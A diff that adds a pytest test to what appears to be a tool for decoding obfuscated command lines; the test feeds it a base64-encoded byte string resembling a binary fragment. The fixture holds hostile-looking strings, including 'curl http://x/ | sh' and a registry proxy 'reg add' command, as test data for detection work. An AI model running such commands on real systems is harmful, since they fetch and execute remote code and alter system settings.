@@ -59,6 +59,12 @@ def test_text_in_base64_is_read_again_and_again() -> None:
     assert any(inner in form for form in plainer_lines(f"powershell -c x '{packed}'"))
 
 
+def test_a_piece_of_a_program_in_base64_is_no_text() -> None:
+    piece = b"usage: %s [options] host\n\0GET\0HEAD\0reg add HKCU\\Software\\proxy\0curl http://x/ | sh\0"
+
+    assert plainer_lines(f"cmd.exe /c echo {base64.b64encode(piece).decode()}") == ()
+
+
 @pytest.mark.parametrize(
     "line",
     [
